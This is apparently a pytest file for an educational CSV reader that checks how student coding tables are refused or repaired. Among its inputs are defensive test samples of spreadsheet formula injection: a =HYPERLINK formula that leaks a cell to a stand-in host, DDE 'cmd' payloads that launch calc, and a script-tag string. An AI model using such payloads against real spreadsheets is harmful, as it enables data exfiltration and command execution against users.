"""What students hand in: each kind of broken file gives one clear message by every way in, and stays as it is.

The kinds that a spreadsheet makes stand in test_broken_files.py, and are tried here by all three ways as well.
"""

import panels
import pytest
from case_copy import CASE, as_csv, bytes_of, check_words, problems_of, records
from pandas.testing import assert_frame_equal
from standpoint import read_coding
from standpoint.workshop.coding_class import read_class
from standpoint.workshop.coding_explorer import code_cells
from test_broken_files import GOOD, REFUSED, REPAIRED, with_cell

HEADER, *ROWS = records(CASE / "positions.csv")
KEY = "stakeholder + issue"


def without(column):
    place = HEADER.index(column)
    return as_csv([[*row[:place], *row[place + 1 :]] for row in [HEADER, *ROWS]]).encode()


def added(*rows):
    """The positions with more rows at the end; the first of them is row 25."""
    return as_csv([HEADER, *ROWS, *rows]).encode()


def changed(*cells):
    """The positions in which some cells (row, column, value) are others."""
    found = [list(HEADER), *map(list, ROWS)]
    for row, column, value in cells:
        found[row - 1][HEADER.index(column)] = value
    return as_csv(found).encode()


def swapped(one, other):
    """The positions with the names of two columns changed over, their cells left in place."""
    names = {one: other, other: one}
    return as_csv([[names.get(name, name) for name in HEADER], *ROWS]).encode()


def ids(stakeholder, issue, direction="", **more):
    """A row with ids, and what else is given."""
    row = dict.fromkeys(HEADER, "") | {"stakeholder": stakeholder, "issue": issue, "direction": direction} | more
    return list(row.values())


SAVE_AS = "choose Save As, then “CSV UTF-8”."
LEAK = '=HYPERLINK("http://a.invalid/?"&A1,"see")'
ELSEWHERE = "a plan that no paragraph of this text has words for"
ONE = {  # kind: (bytes, [(rows, column, words)])
    "columns cut by |": (GOOD.replace(",", "|").encode(), [((1,), "", "separated by “|”. Separate them by commas")]),
    "columns cut by a space": (
        as_csv([HEADER, *ROWS], " ").encode(), [((1,), "", "separated by “ ”. Separate them by commas")]),
    "no header": (
        as_csv(ROWS).encode(), [((1,), "", "the header is missing. Put it above the first row: stakeholder,")]),
    "a missing column": (without("salience"), [((1,), "salience", "this column is missing. Add it to the header")]),
    "an extra column": (
        as_csv([[*HEADER, "mood"], *([*row, "x"] for row in ROWS)]).encode(),
        [((1,), "mood", "the table has no such column. Known:")]),
    "a column twice": (
        as_csv([[*HEADER, "note"], *([*row, "x"] for row in ROWS)]).encode(), [((1,), "note", "stands there twice.")]),
    "a misspelt column": (
        GOOD.replace("plainness", "plainess", 1).encode(),
        [((1,), "plainness", "this column is missing."), ((1,), "plainess", "Did you mean “plainness”?")]),
    "the two ids swapped": (
        swapped("stakeholder", "issue"),
        [((1,), KEY, "the two columns are swapped. Change their names in the header.")]),
    "a cell coded twice": (added(ROWS[0]), [((25,), KEY, "“trump, seat” stands in row 2 already. Keep one")]),
    "a cell coded and blank": (
        added(ids("trump", "seat", "blank")),
        [((25,), KEY, "“trump, seat” stands in row 2 already. Keep one of them.")]),
    "a cell blank twice": (
        added(ids("oil_buyers", "seat", "blank"), ids("oil_buyers", "seat", "Blank")),
        [((26,), KEY, "“oil_buyers, seat” stands in row 25 already.")]),
    "a blank with a quotation": (
        added(ids("oil_buyers", "seat", "blank", quote="when great powers were cutting deals")),
        [((25,), "quote", "the cell is filled, and the direction is blank. A blank has no more than a note")]),
    "a stakeholder that is none": (
        with_cell("stakeholder", "trumpp"),
        [((4,), "stakeholder", "is not an id in stakeholders.csv. Did you mean “trump”?")]),
    "an issue that is none": (with_cell("issue", "oil"), [((4,), "issue", "“oil” is not an id in issues.csv. Known:")]),
    "an empty row of an unknown stakeholder": (
        added(ids("nobody", "seat")), [((25,), "stakeholder", "“nobody” is not an id in stakeholders.csv.")]),
    "out of range": (with_cell("direction", "2"), [((4,), "direction", "2 is outside the range -1 to 1. Write -1")]),
    "a word that is none": (
        with_cell("plainness", "clearly"), [((4,), "plainness", "is not one of the allowed values.")]),
    "a quotation from elsewhere": (
        with_cell("quote", ELSEWHERE),
        [((4,), "quote", f"the words “{ELSEWHERE}” are not in p03. The nearest sentence")]),
    "a quotation from another paragraph": (
        with_cell("paragraph", "p01"), [((4,), "quote", "They stand in p03: correct the paragraph.")]),
    "a paragraph that is none": (
        with_cell("paragraph", "p77"), [((4,), "paragraph", "“p77” is not a part of the text.")]),
    "a quotation of two words": (
        with_cell("quote", "His threat"), [((4,), "quote", "the quotation has 2 words. Quote 5 to 40 words.")]),
    "a hint without its note": (
        with_cell("note", "", 2), [((2,), "note", "the cell is empty where plainness is “hinted”.")]),
    "=HYPERLINK": (with_cell("note", LEAK), [((4,), "note", "is a formula or a formula’s error, not text.")]),
    "@SUM for a quotation": (
        with_cell("quote", "@SUM(1+1)*cmd|' /C calc'!A0"),
        [((4,), "quote", "are not in p03. The nearest sentence is")]),
    "+cmd for a number": (
        with_cell("salience", "+cmd|' /C calc'!A0"),
        [((4,), "salience", "“+cmd|' /C calc'!A0” is not a whole number.")]),
    "a book in one cell": (
        with_cell("note", "word " * 1000),
        [((4,), "note", "the cell has 5,000 characters, more than a code can need. Shorten")]),
    "the class in one file": (
        added(*ROWS * 30),
        [((), "", "the file has 713 rows, and this case has 56 cells. Hand in one table of one reader")]),
    "10 MB": (GOOD.encode() + b",,,\n" * 2_500_000, [((), "", "the file has 10,0")]),
    "an empty file": (
        b"", [((), "", "the file is empty. Start again from the template; it needs at least the header.")]),
    "five slips": (
        changed((2, "direction", "two"), (3, "salience", "9"),
                (5, "quote", ELSEWHERE), (6, "issue", "oil"), (7, "note", "#NAME?")),
        [((2,), "direction", "not a whole number"), ((3,), "salience", "outside the range"),
         ((5,), "quote", "nearest sentence"),
         ((6,), "issue", "not an id"), ((7,), "note", "formula")]),
}  # fmt: skip
ONE |= {name: (content, [(rows, column, words)]) for name, (content, rows, column, words) in REFUSED.items()}


def test_there_are_more_than_twenty_kinds():
    assert len(ONE) >= 50


def holds(problems, wanted):
    """Each problem is one line that names file, row and column, and says what is wrong and how to mend it."""
    assert [(p.rows, p.column) for p in problems] == [(rows, column) for rows, column, _ in wanted], problems
    for problem, (_, _, words) in zip(problems, wanted):
        check_words(problem)
        assert words in str(problem), problem


@pytest.mark.parametrize("kind", ONE)
def test_read_coding_refuses_it_with_the_reason(case, tmp_path, capsys, kind):
    content, wanted = ONE[kind]
    path = tmp_path / "ann.csv"
    path.write_bytes(content)
    problems = problems_of(lambda: read_coding(path, case))
    holds(problems, wanted)
    assert {p.file for p in problems} == {"ann.csv"}
    assert capsys.readouterr().out == "" and bytes_of(tmp_path) == {"ann.csv": content}


@pytest.mark.parametrize("kind", ONE)
def test_read_class_leaves_it_out_and_reads_the_others(case, tmp_path, capsys, kind):
    content, wanted = ONE[kind]
    (tmp_path / "ann.csv").write_bytes(content)
    (tmp_path / "bo.csv").write_bytes(GOOD.encode())
    codings, refused = read_class(tmp_path, case)
    assert set(codings["coder"]) == {"bo"} and len(codings) == len(case.positions)
    (left_out,) = refused
    assert left_out.file == "ann.csv"
    holds(left_out.problems, wanted)
    assert str(left_out).startswith("ann.csv was left out: ") and "The file was not changed." in str(left_out)
    assert capsys.readouterr().out == "1 of 2 files were read.\n"
    assert bytes_of(tmp_path) == {"ann.csv": content, "bo.csv": GOOD.encode()}


@pytest.mark.parametrize("kind", ONE)
def test_code_cells_shows_the_reasons_and_never_writes(case, tmp_path, monkeypatch, kind):
    content, wanted = ONE[kind]
    monkeypatch.setenv("STANDPOINT_WORK", str(tmp_path))
    path = tmp_path / "my-work" / "anchorage-positions.csv"
    path.parent.mkdir()
    path.write_bytes(content)
    explorer = code_cells(case)
    assert explorer.file == path and explorer.book.cells == {}
    assert len(explorer.book.refused) == explorer.page.count("<li>") == len(wanted)
    assert all(words in line for line, (_, _, words) in zip(explorer.book.refused, wanted))
    panels.give(explorer, "seat/trump/direction", "blank")
    assert bytes_of(tmp_path) == {"my-work/anchorage-positions.csv": content}


@pytest.mark.parametrize("kind", REPAIRED)
def test_what_can_be_repaired_is_read_by_every_way(case, tmp_path, monkeypatch, capsys, kind):
    content, words = REPAIRED[kind]
    monkeypatch.setenv("STANDPOINT_WORK", str(tmp_path))
    path = tmp_path / "my-work" / "anchorage-positions.csv"
    path.parent.mkdir()
    path.write_bytes(content)
    codings, refused = read_class(path.parent, case)
    assert refused == [] and list(codings["position"]) == list(case.positions["position"])
    assert capsys.readouterr().out.startswith("1 of 1 file was read. Small things were repaired while reading 1;")
    explorer = code_cells(case)
    assert explorer.book.refused == [] and "Repaired while reading: " in explorer.page
    assert panels.tally(explorer).startswith(f"{len(case.positions)} of 56 cells coded, 0 decided blank")
    assert path.read_bytes() == content


TEXT = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "'=1+1", "<script>alert(1)</script>", "a “b” 'c' ‘d’ \"e\""]


@pytest.mark.parametrize("words", TEXT)
def test_words_that_look_like_a_formula_are_words_in_a_note(case, tmp_path, words):
    path = tmp_path / "ann.csv"
    path.write_bytes(with_cell("note", words))
    assert read_coding(path, case)["note"].iloc[2] == words.removeprefix("'")


def test_columns_in_another_order_are_no_slip(case, tmp_path):
    path = tmp_path / "ann.csv"
    path.write_bytes(as_csv([row[::-1] for row in [HEADER, *ROWS]]).encode())
    assert_frame_equal(read_coding(path, case), case.positions)
